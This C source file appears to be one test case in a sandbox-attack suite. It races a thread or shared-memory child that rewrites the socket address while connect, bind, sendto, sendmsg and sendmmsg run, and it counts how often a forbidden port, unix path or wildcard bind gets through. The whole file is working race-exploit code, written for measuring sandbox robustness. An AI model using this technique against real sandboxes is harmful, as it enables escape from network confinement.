/*
 * Class 45: the address is rewritten while connect, bind, sendto, sendmsg or sendmmsg runs. Technique: CALL/WRITER/PART.
 * A win is a socket that has the forbidden peer or name, as the kernel tells it.
 */
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>

static union address {
    struct sockaddr any;
    struct sockaddr_in four;
    struct sockaddr_in6 six;
    struct sockaddr_un local;
} *address, good, evil; /* the first in memory that the writer reaches */
static socklen_t size;
static int domain;
static size_t first, last; /* the bytes that differ */

static void write_good(void *unused) {
    (void)unused;
    for (size_t i = first; i < last; i++)
        ((volatile char *)address)[i] = ((char *)&good)[i];
}
static void write_evil(void *unused) {
    (void)unused;
    for (size_t i = first; i < last; i++)
        ((volatile char *)address)[i] = ((char *)&evil)[i];
}

/* No TIME_WAIT: tens of thousands of connections share the ephemeral ports. */
static void drop(int fd) {
    struct linger now = {.l_onoff = 1};
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof now);
    close(fd);
}
static bool is_evil(const union address *found) {
    if (found->any.sa_family == AF_INET)
        return found->four.sin_port == evil.four.sin_port && found->four.sin_addr.s_addr == evil.four.sin_addr.s_addr;
    if (found->any.sa_family == AF_INET6)
        return found->six.sin6_port == evil.six.sin6_port;
    return strcmp(found->local.sun_path, evil.local.sun_path) == 0;
}
static int one_connect(int *error) {
    int fd = socket(domain, SOCK_STREAM | SOCK_CLOEXEC, 0);
    *error = connect(fd, &address->any, size) ? errno : 0;
    union address peer = {0};
    socklen_t length = sizeof peer;
    bool win = getpeername(fd, &peer.any, &length) == 0 && is_evil(&peer);
    drop(fd);
    return win;
}
/* A connection to a unix socket is told apart by what the one who listens says. */
static int one_unix_connect(int *error) {
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    *error = connect(fd, &address->any, size) ? errno : 0;
    union address peer = {0};
    socklen_t length = sizeof peer;
    bool win = getpeername(fd, &peer.any, &length) == 0 && strstr(peer.local.sun_path, "/no/");
    close(fd);
    return win;
}
static int one_bind(int *error) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    *error = bind(fd, &address->any, size) ? errno : 0;
    union address name = {0};
    socklen_t length = sizeof name;
    getsockname(fd, &name.any, &length);
    bool win = *error == 0 && name.any.sa_family == AF_INET && name.four.sin_addr.s_addr == htonl(INADDR_ANY);
    close(fd);
    return win;
}
static int one_unix_bind(int *error) {
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    *error = bind(fd, &address->any, size) ? errno : 0;
    close(fd);
    bool win = exists(evil.local.sun_path);
    unlink(evil.local.sun_path);
    unlink(good.local.sun_path);
    return win;
}
/* Datagrams: the one outside answers who reached it. */
static int datagrams = -1;
static int answered(int result, int *error) {
    *error = result < 0 ? errno : 0;
    char text[16] = "";
    return datagrams >= 0 && recv(datagrams, text, sizeof text, MSG_DONTWAIT) > 0 && !strncmp(text, FORBIDDEN, 9);
}
static int one_sendto(int *error) { return answered(sendto(datagrams, "x", 1, MSG_DONTWAIT, &address->any, size), error); }
static int one_sendmsg(int *error) {
    struct iovec data = {"x", 1};
    struct msghdr message = {.msg_name = address, .msg_namelen = size, .msg_iov = &data, .msg_iovlen = 1};
    return answered(sendmsg(datagrams, &message, MSG_DONTWAIT), error);
}
static int one_sendmmsg(int *error) {
    struct iovec data = {"x", 1};
    struct mmsghdr message = {.msg_hdr = {.msg_name = address, .msg_namelen = size, .msg_iov = &data, .msg_iovlen = 1}};
    return answered(sendmmsg(datagrams, &message, 1, MSG_DONTWAIT), error);
}

static int rewriting_child(void *flipper) {
    take_side(1);
    flip_until_stopped(flipper);
    return 0;
}
static void race(const char *name, int (*attempt)(int *error), bool process) {
    struct tally tally;
    if (!begin(&tally, 45, "%s", name))
        return;
    const char *a = (const char *)&good, *b = (const char *)&evil;
    for (first = 0; first < sizeof good && a[first] == b[first]; first++)
        ;
    for (last = sizeof good; last > first && a[last - 1] == b[last - 1]; last--)
        ;
    *address = good;
    struct flipper *flipper = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    flipper->harmless = write_good;
    flipper->forbidden = write_evil;
    pid_t child = 0;
    if (process) {
        char *stack = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        take_side(0);
        child = clone(rewriting_child, stack + 65536, CLONE_VM | SIGCHLD, flipper);
        await_flips(flipper);
    } else {
        start_flipper(flipper);
    }
    long through = 0;
    while (more(&tally)) {
        aim(flipper, tally.attempts);
        int error = 0;
        bool win = attempt(&error);
        through += error == 0;
        count(&tally, win, error);
    }
    flipper->stop = 1;
    if (child)
        waitpid(child, NULL, 0);
    else
        stop_flipper(flipper);
    take_side(-1);
    note(&tally, "%ld went through", through);
    report(&tally);
}

static pid_t server;
/* Who may be reached: a listener of the attacker's own, in a process that only accepts. */
static int own_listener(int family, const char *path) {
    int fd = socket(domain = family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    union address name = {.any.sa_family = family};
    socklen_t length = family == AF_INET6 ? sizeof name.six : sizeof name.four;
    if (family == AF_INET)
        name.four.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    else if (family == AF_INET6)
        name.six.sin6_addr = in6addr_loopback;
    else {
        unlink(path);
        length = offsetof(struct sockaddr_un, sun_path) + snprintf(name.local.sun_path, sizeof name.local.sun_path, "%s", path) + 1;
    }
    if (bind(fd, &name.any, length) || listen(fd, 4096))
        return -1;
    if (family != AF_UNIX) {
        length = sizeof name;
        getsockname(fd, &name.any, &length);
    }
    good = evil = name;
    server = fork();
    if (!server) {
        prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
        for (;;)
            close(accept(fd, NULL, NULL));
    }
    return fd;
}
static void no_server(int fd) {
    kill(server, SIGKILL);
    waitpid(server, NULL, 0);
    close(fd);
}

int main(int argc, char **argv) {
    arguments(argc, argv);
    signal(SIGPIPE, SIG_IGN);
    address = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    int port = atoi(outside("tcp"));

    int fd = own_listener(AF_INET, NULL);
    if (fd < 0)
        die("a listener on loopback");
    size = sizeof good.four;
    evil.four.sin_port = htons(port);
    race("connect/thread/port", one_connect, false);
    race("connect/clone-vm/port", one_connect, true);
    /* A family that only disconnects, until the kernel would read it. */
    good = evil;
    good.any.sa_family = AF_UNSPEC;
    race("connect/thread/family", one_connect, false);
    no_server(fd);

    fd = own_listener(AF_INET6, NULL);
    if (fd >= 0) {
        size = sizeof good.six;
        evil.six.sin6_port = htons(port);
        race("connect6/thread/port", one_connect, false);
        no_server(fd);
    }

    fd = own_listener(AF_UNIX, at("ok/sock"));
    if (fd < 0)
        die("ok/sock");
    size = sizeof good.local;
    strcpy(evil.local.sun_path, at("no/sock"));
    race("connect-unix/thread/path", one_unix_connect, false);
    race("connect-unix/clone-vm/path", one_unix_connect, true);
    no_server(fd);
    unlink(at("ok/sock"));

    good = evil = (union address){.local = {.sun_family = AF_UNIX}};
    strcpy(good.local.sun_path, at("ok/fresh"));
    strcpy(evil.local.sun_path, at("no/fresh"));
    race("bind-unix/thread/path", one_unix_bind, false);

    good = evil = (union address){.four = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)}};
    evil.four.sin_addr.s_addr = htonl(INADDR_ANY);
    size = sizeof good.four;
    race("bind/thread/address", one_bind, false);

    good = evil = (union address){.four = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK), .sin_port = htons(9)}};
    evil.four.sin_port = htons(atoi(outside("udp")));
    datagrams = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    race("sendto/thread/port", one_sendto, false);
    race("sendmsg/thread/port", one_sendmsg, false);
    race("sendmmsg/thread/port", one_sendmmsg, false);
    close(datagrams);

    return 0;
}
